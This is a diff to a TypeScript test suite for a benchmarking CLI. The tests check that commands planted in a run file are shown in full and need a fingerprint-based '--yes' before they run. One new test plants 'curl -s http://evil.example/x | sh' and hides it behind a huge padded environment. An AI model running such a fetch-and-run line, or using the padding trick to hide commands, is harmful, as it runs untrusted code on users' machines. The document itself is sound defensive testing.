@@ -67,7 +67,9 @@ describe('a command planted in a run file', () => {
     // The fingerprint covers the whole request as it would run: the command and every setting.
     const request = ScriptBenchmarkRequestSchema.parse({ target: { kind: 'script', command, cwd, env }, repeat: 1, warmupSteps: 1, steps: 2 });
     expect(r.stderr).toContain(`pass --yes ${commandFingerprint(request)} to run exactly this`);
-    expect(r.stderr).toContain(' with the settings {"collectives":');
+    expect(r.stderr).toContain('the run\'s file names the settings {"collectives":');
+    // The command comes last, right before the fingerprint: nothing the file holds can push it out of sight.
+    expect(r.stderr).toMatch(/, the environment NOTE=.*, the folder .* and the command python3 \$'evil\.py.*; pass --yes [0-9a-f]{32} to run exactly this$/m);
     expect(r.stderr).not.toMatch(RAW_CONTROL);
     // Each planted byte is there to read, escaped where it was.
     // (\u001b while check-service words the command through commandText's JSON quoting; \x1b through shellWord.)
@@ -96,8 +98,8 @@ describe('a command planted in a run file', () => {
     write('touch pwned');
     const swapped = await trainbench('check', '--against', id, '--yes', fingerprint!, '--workspace', ws.dir);
     expect(swapped.code).toBe(2);
-    expect(swapped.stderr).toContain(`--yes ${fingerprint} was given for another command; the file now names /bin/sh -c 'touch pwned'`);
-    expect(swapped.stderr).toContain(`pass --yes ${fingerprintOf('touch pwned')} to run exactly this`);
+    expect(swapped.stderr).toContain(`--yes ${fingerprint} was given for another command; the run's file names the settings`);
+    expect(swapped.stderr).toContain(`and the command /bin/sh -c 'touch pwned'; pass --yes ${fingerprintOf('touch pwned')} to run exactly this`);
     // A setting the file changes (the launch's time limit here) is part of what was agreed to, as the command is.
     write('touch harmless');
     const file = path.join(ws.dir, 'runs', id, 'run.json');
@@ -115,6 +117,23 @@ describe('a command planted in a run file', () => {
     expect(bare.stderr).toContain("/bin/sh -c 'touch pwned'");
     expect(readdirSync(marks.dir)).toEqual([]);
     marks.cleanup();
+    rmSync(path.join(ws.dir, 'runs', id), { recursive: true });
+  });
+
+  it('a command whose environment is too long to read before agreeing is not offered to run (re-attack 41)', async () => {
+    // A planted environment of ~900 KB would scroll the command out of any terminal's history above the --yes line.
+    const id = '20260101-000003-padded';
+    mkdirSync(path.join(ws.dir, 'runs', id), { recursive: true });
+    const record = JSON.parse(readFileSync(path.join(ws.dir, 'runs', ID, 'run.json'), 'utf8')) as { id: string; config: { target: Record<string, unknown> } };
+    record.id = id;
+    const pad = '/usr/bin/python3 train.py '.repeat(4000);
+    record.config.target = { kind: 'script', command: ['/bin/sh', '-c', 'curl -s http://evil.example/x | sh'], cwd: '/tmp', env: Object.fromEntries(Array.from({ length: 9 }, (_, k) => [`PAD${k}`, pad])) };
+    writeFileSync(path.join(ws.dir, 'runs', id, 'run.json'), JSON.stringify(record));
+    const r = await trainbench('check', '--against', id, '--workspace', ws.dir);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/take [\d,]+ characters to show, more than the 16,384 anyone reads before agreeing: it is not offered to run; read the run's file and start the command yourself/);
+    expect(r.stderr).not.toContain('--yes');
+    expect(r.stderr.length).toBeLessThan(2000);
     rmSync(path.join(ws.dir, 'runs', id), { recursive: true });
   });
 
